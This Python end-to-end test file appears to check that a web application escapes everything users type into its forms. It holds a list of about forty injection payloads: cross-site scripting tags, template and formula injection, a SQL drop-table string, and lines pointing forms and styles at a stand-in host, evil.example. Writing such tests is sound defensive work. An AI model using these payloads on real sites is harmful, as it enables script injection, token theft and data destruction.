"""What hostile people type into every text field of the product is text on every page of it, in a real browser."""

from collections.abc import Iterator
from itertools import count, cycle

from tests.e2e.conftest import LiveServer, Opener
from tests.security.pages import Sent, forms_shown, paths, send
from tests.visitor import Visitor
from tests.world import build

#: Well-known shapes. Each would open a dialog, or put an element or an attribute with this mark into the page.
MARK = "pwned"
PAYLOADS = [
    f"<script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}') class={MARK}>",
    f"<svg/onload=alert('{MARK}') class={MARK}>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s class={MARK}>",
    f"<body onload=alert('{MARK}')>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\" class={MARK}></iframe>",
    f"<iframe src=javascript:alert('{MARK}') class={MARK}>",
    f"<a href=\"javascript:alert('{MARK}')\" class={MARK}>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}') class={MARK}>",
    f"<details open ontoggle=alert('{MARK}') class={MARK}>",
    f"<form action=//evil.example class={MARK}><input name=csrf_token>",
    f"<base href=//evil.example/ class={MARK}>",
    f"<meta http-equiv=refresh content=0;url=//evil.example class={MARK}>",
    f"<link rel=stylesheet href=//evil.example/x.css class={MARK}>",
    f"<style class={MARK}>@import '//evil.example/x.css';</style>",
    f"<object data=data:text/html,x class={MARK}>",
    f"<template class={MARK}><script>alert('{MARK}')</script></template>",
    f"<div hx-get=/ hx-trigger=load class={MARK}>",
    f"\" autofocus onfocus=alert('{MARK}') class={MARK} x=\"",
    f"' autofocus onfocus=alert('{MARK}') class={MARK} x='",
    f"\"><b class={MARK}>x</b>",
    f"'><b class={MARK}>x</b>",
    f"</title><b class={MARK}>x</b>",
    f"</textarea><b class={MARK}>x</b>",
    f"--><b class={MARK}>x</b><!--",
    f"]]><b class={MARK}>x</b>",
    f"javascript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f"{{{{ 7*7 }}}}{{% raw %}}<b class={MARK}>x</b>",
    f"${{alert('{MARK}')}} #{{7*7}} <%= 7*7 %>",
    f"%(name)s %s %n {{0}} <b class={MARK}>",
    f"&lt;b class={MARK}&gt;x&lt;/b&gt;",
    f"\\u003cb class={MARK}\\u003e \\x3cb\\x3e",
    f"＜script＞alert('{MARK}')＜/script＞",
    f"=HYPERLINK(\"//evil.example\",\"{MARK}\")",
    f"@SUM(1+1)*cmd|'/C calc'!A0 {MARK}",
    f"+996555 {MARK}; DROP TABLE member; --",
    f"<b class={MARK}>" + "ы" * 150,
    f"\N{PILE OF POO}\N{FAMILY}<b class={MARK}>",
    f"\u202e<b class={MARK}>\u202c",
    f"a\x00<b class={MARK}>",
]  # fmt: skip
#: Whose pages show what they typed.
ROLES = ("secretariat", "coordinator", "member")


def _typed(form: Sent, payloads: Iterator[str]) -> Iterator[dict[str, list[str]]]:
    """One text field at a time, and then all at once: a form that refuses one of them may take another."""
    for name in form.texts:
        yield {name: [next(payloads)]}
    yield {name: [next(payloads)] for name in form.texts}


def test_what_is_typed_is_text_on_every_page(live_server: LiveServer, open_page: Opener) -> None:
    app, world, payloads, taken = live_server.app, build(live_server.app), cycle(PAYLOADS), count()
    for role in ("member", "secretariat"):  # a coordinator's forms are among the secretariat's
        for form in forms_shown(app, Visitor(app).sign_in(world.accounts[role]), world):
            if any("password" in name or "disabled" in form.address for name in form.fields):
                continue  # it would end the sign-ins that look at the pages below
            for typed in _typed(form, payloads) if form.texts else ():
                visitor = Visitor(app).sign_in(world.accounts[role])
                answer = send(visitor, form, **typed)
                assert answer.status_code < 500, f"{form.address} {typed}"
                if answer.status_code == 303:
                    next(taken)
                answer.close()
    assert next(taken) >= 12

    dialogs: list[str] = []
    found: list[str] = []
    for role in ROLES:
        page = open_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        session = Visitor(app).sign_in(world.accounts[role])
        cookie = session.client.get_cookie("session", domain="localhost")
        assert cookie is not None
        page.context.add_cookies([{"name": "session", "value": cookie.value, "url": live_server.url}])
        shown = 0
        for path in paths(app, world):
            answer = session.client.get(path, **session.base)
            is_page = answer.mimetype == "text/html" and answer.status_code == 200
            shown += is_page and MARK in answer.text
            answer.close()
            if is_page:
                page.goto(path)
                elements = page.locator(f".{MARK}, [onerror], [onload], [onfocus], iframe, object, base")
                found += [
                    f"{role} {path}: {html}" for html in elements.evaluate_all("all => all.map(e => e.outerHTML)")
                ]
        assert shown >= 1, f"what was typed is on no page of the {role}"
        page.context.close()
    assert not dialogs
    assert not found, "\n".join(found[:20])
